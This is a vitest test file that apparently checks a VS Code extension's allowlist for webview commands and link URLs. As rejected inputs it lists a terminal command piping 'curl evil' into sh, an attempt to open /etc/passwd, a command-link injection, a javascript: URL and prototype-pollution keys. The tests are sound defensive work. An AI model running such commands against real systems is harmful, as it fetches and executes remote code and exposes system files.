import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { compareChecks, isAction } from '../../../src/protocol/compare-checks.ts';

const source = fileURLToPath(new URL('../../../src', import.meta.url));

describe('the command of an error', () => {
  it('runs if one of our errors names it', () => {
    const files = readdirSync(source, { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('.ts'));
    const text = files.map((file) => readFileSync(path.join(source, file), 'utf8')).join('\n');
    const named = [...text.matchAll(/action(?::| =) \{ command: '([^']+)'/g)].map((match) => match[1] ?? '');
    expect(named.length).toBeGreaterThan(8);
    for (const command of named) expect(isAction(command, []), command).toBe(true);
    expect(isAction('llmops.connection.setKey', ['my-server', 'gate.way'])).toBe(true);
    expect(isAction('workbench.action.openSettings', ['llmops.runs.recordRaw'])).toBe(true);
  });

  it('is rejected if the database or a page invented it', () => {
    for (const [command, args] of [
      ['workbench.action.terminal.sendSequence', [{ text: 'curl evil | sh\n' }]],
      ['vscode.open', ['file:///etc/passwd']],
      ['llmops.model.setDefault', ['evil/model']],
      ['llmops.run.delete', []],
      ['llmops.connection.setKey', ['](command:x)']],
      ['llmops.connection.setKey', [{ kind: 'connection' }]],
      ['workbench.action.openSettings', ['@ext:evil.evil']],
      ['workbench.trust.manage', ['anything']],
      ['__proto__', []],
      ['constructor', []],
    ] as const) {
      expect(compareChecks['action.run']({ command, args }), command).toBe(false);
    }
  });
});

describe('a link in an answer', () => {
  it('leads only to the web or to a mail address', () => {
    const opens = (url: unknown) => compareChecks['link.open']({ url });
    expect(['https://example.com/a?b=c#d', 'HTTP://x', 'mailto:a@b.c'].every(opens)).toBe(true);
    const refused = [
      'command:x',
      'vscode://x',
      'file:///etc',
      'javascript:alert(1)',
      'https:',
      'https:///x',
      'https://a b',
    ];
    expect([...refused, ' https://x', `https://x/${'y'.repeat(3000)}`, 7, undefined].some(opens)).toBe(false);
  });
});

describe('messages of a page', () => {
  it('are rejected in any other shape', () => {
    const takeNothing = new Set([
      'snapshot',
      'versions.list',
      'input.fromFile',
      'input.fromDataset',
      'column.pick',
      'dataset.evaluate',
    ]);
    const methods = Object.entries(compareChecks).filter(([method]) => !takeNothing.has(method));
    expect(methods.length).toBeGreaterThan(12);
    const wrong = {
      url: 7,
      command: 7,
      columnId: 7,
      model: {},
      version: 7,
      runId: [],
      line: 'x',
      input: [],
      repeat: '2',
      refresh: 1,
      folded: 7,
      width: 'x',
    };
    for (const [method, check] of methods) {
      for (const params of [null, 'text', 7, [], wrong]) expect(check(params), method).toBe(false);
    }
  });
});

it('a page asks by commands of errors only for what is allowed', () => {
  const webview = fileURLToPath(new URL('../../../webview', import.meta.url));
  const files = readdirSync(webview, { recursive: true, encoding: 'utf8' }).filter((file) => /\.tsx?$/.test(file));
  const text = files.map((file) => readFileSync(path.join(webview, file), 'utf8')).join('\n');
  const named = [...text.matchAll(/\bcommand: '([^']+)'/g)].map((match) => match[1] ?? '');
  expect(named.length).toBeGreaterThan(0);
  for (const command of named) expect(isAction(command, []), command).toBe(true);
});
